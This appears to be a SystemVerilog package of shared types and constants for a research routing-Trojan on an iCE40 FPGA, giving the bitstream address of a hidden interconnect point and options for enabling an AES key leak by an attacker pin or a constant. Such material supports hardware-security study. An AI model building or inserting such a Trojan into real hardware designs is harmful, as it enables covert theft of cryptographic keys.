// Shared types and constants of the routing-Trojan design.
//
// The Trojan is a set of barrier multiplexers whose select line is reached
// only through one programmable interconnect point (the Trojan PIP, TPIP).
// The TPIP is open in the bitstream and closed only when the device is
// configured. Its configuration cell sits at one bit address of the
// bitstream; the example address 0x4743 is the one reported for the AES
// key-leak case. The address width is this design's choice: a flat bit
// address of an iCE40HX1K bitstream (about 32 KB) needs 18 bits.
package trojan_pkg;

  // Bit address width of the flat configuration space.
  localparam int unsigned CFG_ADDR_BITS = 18;

  // Bitstream bit address of the TPIP cell in the AES example.
  localparam logic [CFG_ADDR_BITS-1:0] TPIP_BIT_ADDR = 18'h04743;

  // Where the far end of the TPIP (the barrier-gate enable) is attached.
  //   EN_IO_PIN    : an otherwise unused input pin, so the attacker switches
  //                  the leak on and off in the field.
  //   EN_CONST_ONE : a constant 1, so the leak starts as soon as the TPIP
  //                  is closed.
  typedef enum logic {
    EN_IO_PIN    = 1'b0,
    EN_CONST_ONE = 1'b1
  } enable_src_e;

endpackage
